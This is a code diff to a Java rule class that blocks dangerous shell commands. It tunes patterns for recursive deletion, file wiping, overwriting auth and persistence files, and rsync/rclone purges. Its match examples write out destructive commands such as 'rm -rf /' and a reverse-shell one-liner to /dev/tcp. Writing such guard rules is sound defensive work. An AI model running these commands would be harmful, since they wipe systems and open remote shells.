@@ -17,7 +17,7 @@ final class FileRules {
                                     "Deletes the system, or everything that somebody has at home.",
                                     "rm -r|-R|--recursive @root|system|home|parent",
                                     "rm --no-preserve-root",
-                                    "find-delete @root|system|home everything")
+                                    "find-delete ** everything @root|system|home|parent")
                             .instead("ls -la", "rm -ri ./folder")
                             .matches("rm -rf /", "sudo rm -fr ~", "cd / && rm -rf *", "rm -r ..")
                             .not("rm -rf ./build", "rm -r /tmp/x"),
@@ -26,13 +26,14 @@ final class FileRules {
                                     HIGH,
                                     "Deletes a whole folder for good, without asking.",
                                     "rm -r|-R|--recursive -f|--force @outside|here|git|mayberoot",
+                                    "rm -r|-R|--recursive -f|--force * !@made|temp",
                                     "rm -r|-R|--recursive @here|git|mayberoot",
-                                    "rm -f|--force @root|system|here|home|mayberoot",
+                                    "rm -f|--force @root|system|home|mayberoot",
+                                    "rm -f|--force @here @many",
                                     "rm @root|home|system|vital",
-                                    "find-delete @here everything",
-                                    "find-delete @outside everything",
-                                    "find-delete @root|system|home",
-                                    "find-delete @temp everything !~/",
+                                    "find-delete ** everything @here|outside|git|mayberoot",
+                                    "find-delete !@temp",
+                                    "find-delete ** everything",
                                     "srm|wipe",
                                     "rimraf @root|home|here|outside")
                             .instead("ls -la", "rm -ri ./folder")
@@ -42,7 +43,7 @@ final class FileRules {
                                     "files.remove-unknown",
                                     HIGH,
                                     "Deletes whatever a variable names, which can be anything.",
-                                    "rm -r|-R|--recursive -f|--force !$ @unknown !@temp %network|decoded")
+                                    "rm -r|-R|--recursive @unknown %network|decoded|history")
                             .instead("echo rm -ri ./folder"),
                     Rule.of(
                                     "files.remove",
@@ -57,7 +58,7 @@ final class FileRules {
                                     "files.lose-by-move",
                                     HIGH,
                                     "Moves files to where they are lost or the system breaks.",
-                                    "mv * >@null",
+                                    "mv * * >@null",
                                     "mv @root|system|home|vital *",
                                     "mv >@vital")
                             .instead("cp -a ./file ./backup")
@@ -88,8 +89,8 @@ final class FileRules {
                                     "Changes who may log in or become root, or what runs by itself.",
                                     ">|>> @auth|persist|system",
                                     ">> @vital",
-                                    "cp|install|mv|ln|tee >@auth|persist",
-                                    "cp|install|mv|ln|tee >@system",
+                                    "cp|install|mv|tee >@auth|persist",
+                                    "cp|install|mv|ln >@system",
                                     "tee @auth|persist|vital|system",
                                     "sed|gsed -i|--in-place @auth|vital")
                             .instead("cat /etc/hosts")
@@ -102,7 +103,7 @@ final class FileRules {
                                     "files.send-out",
                                     HIGH,
                                     "Connects to another machine through the shell itself.",
-                                    ">|>> @remote")
+                                    ">|>> @net")
                             .matches("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                     Rule.of(
                                     "files.wipe-log",
@@ -151,8 +152,7 @@ final class FileRules {
                                     "rsync --delete|--delete-after|--delete-before|--delete-excluded"
                                             + " !-n|--dry-run",
                                     "rsync --del !-n|--dry-run",
-                                    "rsync --delete -z -v",
-                                    "rclone sync|purge|delete !--dry-run",
+                                    "rclone sync|purge|delete|cleanup|deletefile|move|rmdirs !--dry-run",
                                     "rsync --remove-source-files",
                                     "robocopy ~/mir|/purge")
                             .instead("rsync -avn ./a/ ./b/")
